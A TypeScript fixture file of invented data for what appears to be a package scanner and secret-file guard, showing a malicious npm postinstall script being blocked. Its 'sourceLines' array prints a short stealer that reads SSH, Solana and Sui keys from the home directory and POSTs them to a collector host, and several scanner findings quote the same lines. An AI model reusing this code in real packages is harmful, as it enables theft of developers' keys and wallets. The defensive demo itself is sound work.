// Believable, made-up data: what a developer's desk might look like on a day with one bad package.
import type {
  Action, Ancestor, Attribution, Candidates, Coverage, CoverageLevel, Event, Finding, GuardState, KnownBad, PackageReport, Project,
  ProjectPackage, Reader, SealedEntry, SealedItem, Secret, Summary, Verdict,
} from "./types";

export const HOME = "/home/ana";

/** That many minutes before now. */
export function minutesAgo(minutes: number): string {
  return new Date(Date.now() - minutes * 60_000).toISOString();
}

const secrets = {
  ssh: { path: `${HOME}/.ssh/id_ed25519`, class: "ssh-key", title: "SSH private key", tier: 1 },
  sui: { path: `${HOME}/.sui/sui_config/sui.keystore`, class: "sui-keystore", title: "Sui keystore", tier: 1 },
  solana: { path: `${HOME}/.config/solana/id.json`, class: "solana-key", title: "Solana key", tier: 1 },
  aws: { path: `${HOME}/.aws/credentials`, class: "aws-credentials", title: "AWS credentials", tier: 1 },
  npm: { path: `${HOME}/.npmrc`, class: "npm-token", title: "npm token", tier: 1 },
  gh: { path: `${HOME}/.config/gh/hosts.yml`, class: "github-token", title: "GitHub token", tier: 1 },
  history: { path: `${HOME}/.bash_history`, class: "shell-history", title: "Shell history", tier: 2 },
  env: { path: `${HOME}/code/harbour/.env`, class: "dotenv", title: "Environment file", tier: 2 },
  known: { path: `${HOME}/.ssh/known_hosts`, class: "ssh-hosts", title: "SSH host list", tier: 3 },
} satisfies Record<string, Secret>;

const desktop: Ancestor[] = [
  { pid: 2210, exe: "/usr/bin/bash", cmdline: ["bash"] },
  { pid: 2198, exe: "/usr/bin/gnome-terminal-server", cmdline: ["gnome-terminal-server"] },
  { pid: 1, exe: "/usr/lib/systemd/systemd", cmdline: ["/sbin/init"] },
];

const install: Ancestor[] = [
  { pid: 48113, exe: "/usr/bin/dash", cmdline: ["sh", "-c", "node ./scripts/setup.cjs"] },
  { pid: 48090, exe: "/usr/bin/node", cmdline: ["npm", "install", "wallet-connect-utils"] },
  ...desktop,
];

function reader(exe: string, cmdline: string[], ancestry: Ancestor[], more: Partial<Reader> = {}): Reader {
  return {
    pid: 48121,
    exe,
    inode: "fd01:2a41f7",
    sha256: "6f1c9e54b8d07c0b7a7f0f5a0d3c2f9f3f2c5f8e1f5b7d0c9a4e6b2d8c1a3e57",
    cmdline,
    uid: 1000,
    script: null,
    cwd: `${HOME}/code/harbour`,
    injected: [],
    foreign_namespace: false,
    app: null,
    system_package: null,
    ancestry,
    ...more,
  };
}

const thief: Attribution = {
  ecosystem: "npm",
  name: "wallet-connect-utils",
  version: "2.4.1",
  stage: "install",
  script: "postinstall",
  path: `${HOME}/code/harbour/node_modules/wallet-connect-utils`,
  project: `${HOME}/code/harbour`,
};

const thiefReader = reader("/usr/bin/node", ["node", "./scripts/setup.cjs"], install, {
  script: `${thief.path}/scripts/setup.cjs`,
  cwd: thief.path,
});

interface Draft {
  minutes: number;
  action: Action;
  secret: Secret;
  reader: Reader;
  package?: Attribution;
  candidates?: Candidates;
  sweep?: Secret[];
  why: string;
}

function made(drafts: Draft[]): Event[] {
  return drafts
    .toSorted((a, b) => b.minutes - a.minutes)
    .map(
      (draft, index): Event => ({
        schema: 1,
        id: 400 + index,
        time: minutesAgo(draft.minutes),
        kind: "read",
        action: draft.action,
        importance: draft.action === "denied" ? "alarm" : draft.action === "asked" ? "attention" : "quiet",
        owner: 1000,
        secret: draft.secret,
        reader: draft.reader,
        package: draft.package ?? null,
        candidates: draft.candidates ?? null,
        sweep: draft.sweep ?? [],
        why: draft.why,
      }),
    )
    .reverse();
}

const git = reader("/usr/bin/ssh", ["ssh", "git@example.org"], [
  { pid: 50110, exe: "/usr/bin/git", cmdline: ["git", "fetch"] },
  ...desktop,
]);
const rsync = reader("/usr/bin/rsync", ["rsync", "-a", `${HOME}/`, "/mnt/backup/ana/"], desktop, { pid: 51877 });
const python = reader("/usr/bin/python3.11", ["python3", "tidy.py"], desktop, {
  pid: 52033,
  script: `${HOME}/bin/tidy.py`,
  injected: [{ by: "PYTHONSTARTUP", value: `${HOME}/.pythonrc` }],
});
const release: Attribution = {
  ecosystem: "npm",
  name: "release-notes-kit",
  version: "3.0.2",
  stage: "install",
  script: "prepare",
  path: `${HOME}/code/harbour/node_modules/release-notes-kit`,
  project: `${HOME}/code/harbour`,
};
const releaser = reader("/usr/bin/node", ["node", "prepare.mjs"], install, { pid: 52210, script: `${release.path}/prepare.mjs`, cwd: release.path });
const owner = "The catalog names this program as a reader of this file.";
const stopped = "Denied: a package's install script may not read a secret the package does not own.";

export const events: Event[] = made([
  { minutes: 2, action: "asked", secret: secrets.npm, reader: releaser, package: release, why: "No rule knows this package; packages are set to ask." },
  { minutes: 1, action: "asked", secret: secrets.aws, reader: rsync, why: "No rule knows this program; tier 1 asks." },
  { minutes: 11, action: "denied", secret: secrets.ssh, reader: thiefReader, package: thief, why: stopped },
  { minutes: 11.1, action: "denied", secret: secrets.solana, reader: thiefReader, package: thief, why: stopped },
  { minutes: 11.2, action: "denied", secret: secrets.sui, reader: thiefReader, package: thief, why: stopped },
  {
    minutes: 34, action: "allowed", secret: secrets.history, reader: python, why: "Tier 2 is observed: allowed and written down.",
    candidates: {
      stage: "runtime", project: `${HOME}/code/tidewater`, more: 12,
      packages: [{ ecosystem: "pypi", name: "colour-logs", version: "0.3.0" }, { ecosystem: "pypi", name: "requests", version: "2.32.3" }],
    },
  },
  { minutes: 41, action: "allowed", secret: secrets.ssh, reader: git, why: owner },
  { minutes: 66, action: "allowed", secret: secrets.npm, reader: reader("/usr/bin/node", ["npm", "whoami"], desktop), why: owner },
  { minutes: 130, action: "allowed", secret: secrets.gh, reader: reader("/usr/bin/gh", ["gh", "pr", "list"], desktop), why: owner },
  { minutes: 150, action: "allowed", secret: secrets.ssh, reader: git, why: owner },
  { minutes: 171, action: "allowed", secret: secrets.ssh, reader: git, why: owner },
  { minutes: 195, action: "allowed", secret: secrets.env, reader: reader("/usr/bin/node", ["node", "server.js"], desktop), why: "Tier 2 is observed: allowed and written down." },
  { minutes: 260, action: "allowed", secret: secrets.ssh, reader: git, why: owner },
  { minutes: 1500, action: "allowed", secret: secrets.known, reader: rsync, why: "Tier 3 only counts towards a sweep." },
]);

function covered(secret: Secret, level: CoverageLevel = "full", note = ""): Coverage {
  return { path: secret.path, class: secret.class, title: secret.title, tier: secret.tier, level, note, holders: [], copies: 0 };
}

export const guard: GuardState = {
  policy: { mode: "ask", packages: null, tier1: null, tier2: null, tier3: null },
  paused_until: null,
  rules: [
    {
      id: 3,
      created: minutesAgo(4000),
      owner: 1000,
      expires_at: null,
      verdict: "allow",
      who: { exe: "/usr/bin/restic", inode: "fd01:1b33c0", sha256: "9b0e4d", script: null, package: null, process: null },
      what: { class: "ssh-key" },
      expiry: "always",
    },
    {
      id: 5,
      created: minutesAgo(90),
      owner: 1000,
      expires_at: minutesAgo(90 - 1440),
      verdict: "deny",
      who: { exe: null, inode: null, sha256: null, script: null, process: null, package: { ecosystem: "pypi", name: "colour-logs", version: "0.3.0" } },
      what: { path: secrets.aws.path },
      expiry: "day",
    },
  ],
  decoys: [
    { path: `${HOME}/.ssh/id_ed25519_backup`, kind: "ssh", owner: 1000, planted: minutesAgo(20_000), state: "intact" },
    { path: `${HOME}/.config/solana/id_old.json`, kind: "solana", owner: 1000, planted: minutesAgo(20_000), state: "gone" },
  ],
  coverage: [
    covered(secrets.ssh),
    covered({ ...secrets.ssh, path: `${HOME}/.ssh/id_rsa` }),
    covered(secrets.sui),
    covered(secrets.solana),
    covered(secrets.aws),
    covered(secrets.npm),
    covered(secrets.gh, "opens", "The file is on a network folder: a read through a descriptor opened elsewhere is not seen."),
    covered(secrets.env),
    covered(secrets.history),
    covered(secrets.known),
  ],
  kernel: { release: "6.14.0", pre_content: true, pidfd: true, fd_error: true, target_fid: true },
  counters: { answered: 2871, denied: 3, asked: 4, timed_out: 1, overflowed: 0, secrets: 10 },
  gaps: ["Your programs can read the disk /dev/sda directly, past this guard, because you are in its group; leave that group."],
};

const findings: Finding[] = [
  {
    rule: "N-01",
    title: "Runs a script when it is installed",
    severity: "medium",
    path: "package.json",
    line: 11,
    column: 5,
    snippet: '"postinstall": "node ./scripts/setup.cjs"',
    why: "The script starts by itself on every machine that installs the package.",
  },
  {
    rule: "C-07",
    title: "Reads private keys and wallets",
    severity: "critical",
    path: "scripts/setup.cjs",
    line: 14,
    column: 9,
    snippet: 'const wanted = [".ssh/id_ed25519", ".config/solana/id.json", ".sui/sui_config/sui.keystore"];',
    why: "A package has no reason to open these files while it is installed.",
  },
  {
    rule: "C-12",
    title: "Sends what it collected to one address",
    severity: "high",
    path: "scripts/setup.cjs",
    line: 22,
    column: 3,
    snippet: "request({ method: 'POST', host: collector }, body);",
    why: "Together with reading keys, this is how a theft leaves the machine.",
  },
];

function report(name: string, version: string, verdict: Verdict, score: number, more: Partial<PackageReport> = {}): ProjectPackage {
  return {
    project: 1,
    scanned: minutesAgo(9),
    report: {
      purl: `pkg:npm/${name}@${version}`,
      ecosystem: "npm",
      name,
      version,
      path: `${HOME}/code/harbour/node_modules/${name}`,
      verdict,
      score,
      findings: [],
      unscanned: [],
      ...more,
    },
  };
}

export const packages: ProjectPackage[] = [
  report("wallet-connect-utils", "2.4.1", "malicious", 97, { findings: findings.toSorted((a, b) => Number(b.severity === "critical") - Number(a.severity === "critical")) }),
  report("telemetry-lite", "0.9.2", "suspicious", 58, {
    findings: [
      { rule: "C-12", title: "Sends the machine's name on import", severity: "medium", path: "dist/index.js", line: 3, column: 1, snippet: "post(endpoint, { host: os.hostname() })", why: "It happens as soon as the package is imported." },
    ],
  }),
  report("esbuild", "0.25.4", "notable", 18, {
    findings: [
      { rule: "N-01", title: "Runs a script when it is installed", severity: "low", path: "package.json", line: 17, column: 5, snippet: '"postinstall": "node install.js"', why: "The script starts by itself on every machine that installs the package." },
    ],
    unscanned: [{ path: "bin/esbuild", reason: "A program, not source: its bytes were hashed but not understood." }],
  }),
  report("icon-shapes", "1.8.0", "clean", 0, { unscanned: [{ path: "dist/all.js", reason: "The file is 31 MB; files up to 16 MB are read." }] }),
  ...["svelte", "vite", "typescript", "acorn", "magic-string", "rollup", "postcss", "zod"].map((name, at) =>
    report(name, `${5 - (at % 3)}.${at}.1`, "clean", 0)),
];

function summary(packages: number, notable: number, suspicious: number, malicious: number): Summary {
  const clean = packages - notable - suspicious - malicious;
  return { packages, clean, notable, suspicious, malicious, unscanned: 1, bytes: packages * 81_234, duration_ms: packages * 9 };
}

export const projects: Project[] = [
  { id: 1, path: `${HOME}/code/harbour`, name: "harbour", ecosystems: ["npm"], added: minutesAgo(9000), last_scan: minutesAgo(9), summary: summary(412, 1, 1, 1), worst: "malicious", state: { is: "watching" } },
  { id: 2, path: `${HOME}/code/tidewater`, name: "tidewater", ecosystems: ["pypi"], added: minutesAgo(8000), last_scan: minutesAgo(310), summary: summary(64, 2, 0, 0), worst: "notable", state: { is: "watching" } },
  { id: 3, path: `${HOME}/code/keel`, name: "keel", ecosystems: ["cargo"], added: minutesAgo(7000), last_scan: minutesAgo(2900), summary: summary(188, 0, 0, 0), worst: "clean", state: { is: "watching" } },
  { id: 4, path: "/mnt/usb/old-site", name: "old-site", ecosystems: ["npm"], added: minutesAgo(6000), last_scan: null, summary: null, worst: null, state: { is: "unavailable", reason: "The folder is not there. Connect the disk, or remove the project." } },
];

export const knownBad: KnownBad = { issued: minutesAgo(4 * 24 * 60), entries: 26_500, built_in: true, problem: null };

export const sealed: SealedItem[] = [
  {
    id: "q-20260524-01",
    sealed: minutesAgo(2880),
    package: { ecosystem: "pypi", name: "colour-logs", version: "0.3.0" },
    origin: `${HOME}/code/tidewater/.venv/lib/python3.11/site-packages/colour_logs`,
    reason: { verdict: "malicious", text: "It reads the AWS credentials when it is imported and sends them away.", events: [288, 289] },
    entries: 4,
    bytes: 18_433,
    state: "sealed",
  },
  {
    id: "q-20260519-02",
    sealed: minutesAgo(10_080),
    package: { ecosystem: "npm", name: "left-pad-fast", version: "1.0.9" },
    origin: `${HOME}/code/harbour/node_modules/left-pad-fast`,
    reason: { verdict: "suspicious", text: "A new version brought an install script that the one before did not have.", events: [] },
    entries: 3,
    bytes: 5120,
    state: "restored",
  },
];

export const sealedEntries: SealedEntry[] = [
  { path: "__init__.py", kind: "file", bytes: 2210, mode: 0o644, target: null },
  { path: "core", kind: "folder", bytes: 0, mode: 0o755, target: null },
  { path: "core/handlers.py", kind: "file", bytes: 16_223, mode: 0o644, target: null },
  { path: "core/latest", kind: "link", bytes: 0, mode: 0o777, target: "handlers.py" },
];

export const sourceLines = [
  '"use strict";',
  'const fs = require("node:fs");',
  'const os = require("node:os");',
  'const path = require("node:path");',
  'const { request } = require("./net.cjs");',
  "",
  "function open(file) {",
  "  try {",
  "    return fs.readFileSync(path.join(os.homedir(), file));",
  "  } catch {",
  "    return null;",
  "  }",
  "}",
  'const wanted = [".ssh/id_ed25519", ".config/solana/id.json", ".sui/sui_config/sui.keystore"];',
  "",
  "function collect() {",
  "  return wanted.map(open).filter(Boolean);",
  "}",
  "",
  "const body = Buffer.concat(collect());",
  "if (body.length > 0) {",
  "  request({ method: 'POST', host: collector }, body);",
  "}",
];
